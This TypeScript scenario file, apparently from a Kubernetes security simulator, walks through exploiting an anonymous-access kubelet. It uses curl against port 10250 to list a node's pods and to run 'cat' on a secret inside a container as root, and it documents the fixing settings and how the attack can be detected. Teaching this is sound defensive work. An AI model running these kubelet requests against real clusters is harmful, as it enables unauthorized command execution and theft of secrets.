import { addresses, ports } from '../addresses';
import { defenceSettings } from '../defences';
import { curl } from './curl';
import type { Scenario } from './scenario';

/** Source: cmd/kubelet/app/options/options.go (applyLegacyDefaults), pkg/kubelet/server/server.go. */
export const anonymousKubelet: Scenario = {
  id: 'anonymous-kubelet',
  title: 'a kubelet that asks nobody who they are',
  story:
    'A kubelet that is run by flags alone lets anonymous requests in and allows them everything. Whoever reaches port 10250 of the node reads its pods and runs commands in them, root included; no machine in the middle is needed, and the apiserver never hears of it.',
  needs:
    'A way to port 10250 of a node: from another node, a pod, or the machines’ network. No credential at all.',
  evidence:
    'What the kubelet itself answered: the pods of the node, and the output of a command with a random word that was planted in the container’s file.',
  attack: ['T1609'],
  setting: {
    name: 'authentication.anonymous.enabled, authorization.mode',
    open: 'true, AlwaysAllow (the flags’ defaults)',
    fixed: 'false, Webhook (the defaults of a --config file)',
  },
  notice:
    'Nothing in the audit log of the apiserver. The kubelet at --v=4 logs the request; a probe of GET https://NODE:10250/pods without credentials from outside shows it.',
  sources: [
    'kubernetes.io, "Kubelet authentication/authorization"',
    'cmd/kubelet/app/options/options.go (applyLegacyDefaults)',
  ],
  async play(stage, twin) {
    const open = defenceSettings('kubelet-open');
    const cluster = await stage.cluster(twin === 'open' && open !== null ? { kubelet: open.kubelet } : {});
    const secret = 'S3CRET-of-web';
    cluster.container({ namespace: 'default', pod: 'web', container: 'web' }).plant(secret);
    await stage.did('admin', 'kubectl run web', 'pod/web runs on node-1 and holds a secret in a file');

    const { signal } = stage;
    const kubelet = `https://${addresses.node1}:${ports.kubelet}`;
    const pods = await curl(cluster.attackerHost, `${kubelet}/pods`, { signal });
    if (pods.ok) {
      const { items } = JSON.parse(pods.body) as { items: { metadata: { name: string } }[] };
      const names = items.map(({ metadata }) => metadata.name).join(', ');
      await stage.gained(
        'attacker',
        'curl -k https://node-1:10250/pods',
        names,
        'every pod of the node, with its spec',
      );
    } else await stage.refused('attacker', 'curl -k https://node-1:10250/pods', pods.words);

    const command = encodeURIComponent('cat /run/secrets/canary');
    const path = `/run/default/web/web?cmd=${command}`;
    const run = await curl(cluster.attackerHost, `${kubelet}${path}`, { method: 'POST', signal });
    const did = 'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"';
    if (run.body.includes(secret)) {
      await stage.gained(
        'attacker',
        did,
        run.body.trim(),
        'a command run as root in default/web, and its secret',
      );
    } else await stage.refused('attacker', did, run.words);
  },
};
